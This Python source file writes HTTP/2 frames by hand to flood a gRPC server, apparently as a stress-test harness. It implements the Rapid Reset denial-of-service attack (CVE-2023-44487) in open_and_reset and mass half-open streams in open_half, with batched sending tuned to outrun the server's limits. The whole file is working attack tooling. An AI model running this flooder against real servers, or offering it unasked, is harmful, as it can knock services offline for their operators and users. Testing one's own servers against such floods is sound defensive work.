"""Raw HTTP/2 without a client library: connections that open calls as no honest client does.

Frames are written by hand, because every client library keeps to the server's limits, and the point of a flood is that
it does not. A flooder shows no token, reads what the server answers, and forgets the answers.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import struct
from collections import Counter
from collections.abc import AsyncIterator, Iterable
from functools import partial
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA: Final = 0
HEADERS: Final = 1
RST_STREAM: Final = 3
SETTINGS: Final = 4
PING: Final = 6
GOAWAY: Final = 7
CONTINUATION: Final = 9
END_STREAM: Final = 1
ACK: Final = 1
END_HEADERS: Final = 4
_CANCEL: Final = struct.pack(">I", 8)
_BATCH: Final = 64
"""Frames in one write."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame, as RFC 9113 has it."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """One header, without compression and without an entry in the table (RFC 7541, 6.2.2). Up to 126 characters of
    Latin-1 each."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode("latin-1")


def call_headers(method: str, *more: tuple[str, str]) -> bytes:
    """The header block of a gRPC call."""
    fields = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "longshore"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    )
    return b"".join(literal(name, value) for name, value in fields)


class Flooder(asyncio.Protocol):
    """One connection. `answers` counts the frames of the server by their kind."""

    def __init__(self, window: int) -> None:
        self._window = window
        self.answers: Counter[int] = Counter()
        self.closed = asyncio.Event()
        self.limit: int | None = None
        """SETTINGS_MAX_CONCURRENT_STREAMS of the server; None until the server has said one."""
        self._transport: asyncio.Transport
        self._rest = b""
        self._writable = asyncio.Event()
        self._writable.set()
        self._next = 1
        self._heard = asyncio.Event()

    @classmethod
    @contextlib.asynccontextmanager
    async def connected(cls, address: str, *, window: int = (1 << 31) - 1) -> AsyncIterator[Flooder]:
        """A connection to HOST:PORT or unix:PATH, on which the settings of both sides were sent. Raises OSError.

        `window`: bytes of each call's answers that it takes. The default never closes, so that no answer waits.
        """
        loop = asyncio.get_running_loop()
        if address.startswith("unix:"):
            transport, flooder = await loop.create_unix_connection(partial(cls, window), address.removeprefix("unix:"))
        else:
            host, _, port = address.rpartition(":")
            transport, flooder = await loop.create_connection(partial(cls, window), host, int(port))
        try:
            yield flooder
        finally:
            transport.abort()

    # asyncio's side --------------------------------------------------------------------------------------------------

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self._transport = transport
        transport.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, self._window)))

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed.set()
        self._writable.set()

    def pause_writing(self) -> None:
        self._writable.clear()

    def resume_writing(self) -> None:
        self._writable.set()

    def data_received(self, data: bytes) -> None:
        data = self._rest + data
        at = 0
        while len(data) - at >= 9:
            head, flags, _stream = struct.unpack_from(">IBI", data, at)
            end = at + 9 + (head >> 8)
            if end > len(data):
                break
            self._answer(head & 0xFF, flags, data[at + 9 : end])
            at = end
        self._rest = data[at:]

    def _answer(self, kind: int, flags: int, payload: bytes) -> None:
        self.answers[kind] += 1
        if kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 3:
                    self.limit = value
            self._transport.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._transport.write(frame(PING, ACK, 0, payload))
        elif kind == PING:
            self._heard.set()

    async def read(self) -> None:
        """Return when the server has read everything that was sent, which the answer to a PING tells."""
        self._heard.clear()
        self._transport.write(frame(PING, 0, 0, bytes(8)))
        async with asyncio.timeout(60):
            await self._heard.wait()

    # What it sends ---------------------------------------------------------------------------------------------------

    async def send(self, frames: Iterable[bytes]) -> int:
        """Send as fast as the server reads; answers how many went out before the server closed the connection."""
        sent, batch = 0, list[bytes]()
        for one in frames:
            batch.append(one)
            if len(batch) == _BATCH:
                if self.closed.is_set():
                    return sent
                self._transport.write(b"".join(batch))
                sent += len(batch)
                batch.clear()
                await self._writable.wait()
                # Others on this loop, and what the server answers.
                await asyncio.sleep(0)
        if not self.closed.is_set():
            self._transport.write(b"".join(batch))
            sent += len(batch)
        return sent

    async def open_and_reset(self, count: int, method: str) -> int:
        """Open calls and reset each at once (CVE-2023-44487); answers how many."""
        block = call_headers(method)
        return await self.send(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, _CANCEL)
            for stream in self._streams(count)
        )

    async def open_half(self, count: int, *methods: str) -> int:
        """Open calls, of the methods in turns, whose message never comes; answers how many."""
        blocks = itertools.cycle([call_headers(method) for method in methods])
        return await self.send(frame(HEADERS, END_HEADERS, stream, next(blocks)) for stream in self._streams(count))

    async def call_whole(self, count: int, method: str, message: bytes, *metadata: tuple[str, str]) -> int:
        """Make calls with one message each, given with its prefix; answers how many."""
        block = call_headers(method, *metadata)
        return await self.send(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
            for stream in self._streams(count)
        )

    def _streams(self, count: int) -> Iterable[int]:
        first, self._next = self._next, self._next + 2 * count
        return range(first, self._next, 2)
